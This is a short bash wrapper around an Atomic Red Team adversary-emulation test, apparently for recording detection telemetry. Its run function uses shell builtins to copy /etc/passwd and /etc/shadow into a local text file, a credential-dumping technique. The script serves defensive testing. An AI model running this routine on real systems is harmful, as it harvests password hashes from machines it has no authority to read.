#!/usr/bin/env bash
# Atomic Red Team T1003.008-5: Access /etc/{shadow,passwd,master.passwd} with shell builtins
# atomic GUID f5aa6543-6cb2-4fae-b9c2-b96e14721713; technique T1003.008
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    testcat(){ (while read line; do echo $line >> "$W/T1003.008.txt"; done < $1) }
    testcat /etc/passwd
    testcat /etc/shadow
}
cleanup() {
    :
}
"$1"
